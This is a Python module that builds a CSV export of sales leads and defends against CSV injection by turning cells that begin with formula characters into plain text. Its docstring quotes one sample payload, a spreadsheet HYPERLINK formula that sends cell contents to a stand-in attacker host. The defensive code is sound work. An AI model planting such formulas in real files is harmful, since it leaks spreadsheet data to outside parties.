"""The leads CSV: its columns, one row per lead, and the neutralising of cells a spreadsheet
would run as a formula.

Visitors typed most of these cells (name, company, the brief quotes their words), so a lead
named `=HYPERLINK("http://evil.example/?"&A1, "click")` must reach a spreadsheet as text: a
cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP's
advice for CSV injection). Numbers Parley computed (a negative score) are left as numbers."""

import csv
from collections.abc import Iterable, Iterator

from leads.models import Lead

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Excel opens a UTF-8 file as UTF-8 only when it starts with a byte order mark.
BOM = "\ufeff"


def cell(value) -> str | int:
    """A value as the CSV holds it: text that could start a formula is made plain text."""
    if value is None:
        return ""
    if isinstance(value, int):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _brief(lead: Lead, key: str) -> str:
    return ((lead.qualification_detail or {}).get("brief") or {}).get(key) or ""


def _utm(lead: Lead, key: str) -> str:
    return (lead.latest_utm or {}).get(key) or ""


def _iso(moment) -> str:
    return moment.isoformat() if moment else ""


# (header, value of a lead annotated by exports.selectors.lead_export_list), in column order.
COLUMNS = (
    ("id", lambda lead: lead.pk),
    ("email", lambda lead: lead.email),
    ("name", lambda lead: lead.full_name),
    ("company", lambda lead: lead.company),
    ("job_title", lambda lead: lead.job_title),
    ("company_size", lambda lead: lead.company_size),
    ("country", lambda lead: lead.country),
    ("status", lambda lead: lead.qualification_status),
    ("disqualification", lambda lead: lead.disqualification),
    ("band", lambda lead: lead.band),
    ("priority", lambda lead: lead.priority),
    ("score", lambda lead: lead.score),
    ("budget", lambda lead: lead.budget_status or "unknown"),
    ("budget_amount", lambda lead: lead.budget_amount),
    ("budget_currency", lambda lead: lead.budget_currency),
    ("authority", lambda lead: lead.authority or "unknown"),
    ("need", lambda lead: lead.need or "unknown"),
    ("timing", lambda lead: lead.timing or "unknown"),
    ("problem", lambda lead: _brief(lead, "problem")),
    ("impact", lambda lead: _brief(lead, "impact")),
    ("stakes", lambda lead: _brief(lead, "stakes")),
    ("timeline", lambda lead: _brief(lead, "timeline")),
    ("utm_source", lambda lead: _utm(lead, "utm_source")),
    ("utm_medium", lambda lead: _utm(lead, "utm_medium")),
    ("utm_campaign", lambda lead: _utm(lead, "utm_campaign")),
    ("assignee", lambda lead: lead.assignee_email),
    ("outcome", lambda lead: lead.outcome),
    ("outcome_amount", lambda lead: lead.won_amount),
    ("outcome_currency", lambda lead: lead.won_currency),
    ("created_at", lambda lead: _iso(lead.created_at)),
    ("updated_at", lambda lead: _iso(lead.updated_at)),
)
HEADERS = [header for header, _ in COLUMNS]


def lead_csv_row(lead: Lead) -> list:
    return [cell(value(lead)) for _, value in COLUMNS]


class _Echo:
    """A file that hands back what is written to it: csv.writer then formats one line at a
    time for a generator (Django's recipe for streaming large CSV files)."""

    def write(self, value: str) -> str:
        return value


def lead_csv_lines(leads: Iterable[Lead]) -> Iterator[str]:
    """The CSV, a line at a time, header first."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow(HEADERS)
    for lead in leads:
        yield writer.writerow(lead_csv_row(lead))
